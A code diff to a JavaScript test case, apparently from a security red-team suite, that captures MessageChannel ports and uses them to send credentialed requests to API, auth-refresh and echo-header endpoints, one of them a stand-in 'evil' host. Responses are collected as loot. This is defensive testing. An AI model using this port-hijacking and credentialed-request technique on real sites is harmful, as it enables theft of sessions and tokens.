@@ -3,26 +3,19 @@
 export default {
   row: "messages",
   expected: ["loses", "loses"],
-  before: (redteam) => {
-    const { MessageChannel } = globalThis;
-    redteam.ports = [];
-    globalThis.MessageChannel = class extends MessageChannel {
-      constructor() {
-        super();
-        redteam.ports.push(this.port1);
-        this.port1.addEventListener("message", ({ data }) => redteam.loot(data));
-      }
-    };
-  },
-  after: async ({ api, evil, home }) => {
-    const { redteam } = globalThis;
-    const port = redteam.ports[0];
+  before: (redteam) => redteam.takePorts(redteam.loot),
+  after: async ({ api, evil, home }, redteam) => {
+    const [port] = redteam.ports;
+    const answered = [];
+    port.addEventListener("message", ({ data: [kind, id] }) => answered.push([kind, id]));
     const init = { method: "GET", credentials: "include", mode: "cors", redirect: "follow" };
     let id = 9000;
     for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${home}/auth/refresh`, `${api}/echo-headers`]) {
       port.postMessage([0, ++id, url, [], init, true]);
     }
-    await new Promise((resolve) => setTimeout(resolve, 800));
-    return redteam.ports.length;
+    const mine = () => answered.filter(([, id]) => id > 9000);
+    await redteam.until(() => mine().length >= 4);
+    return mine();
   },
+  reached: ({ brought }) => brought.length >= 4,
 };
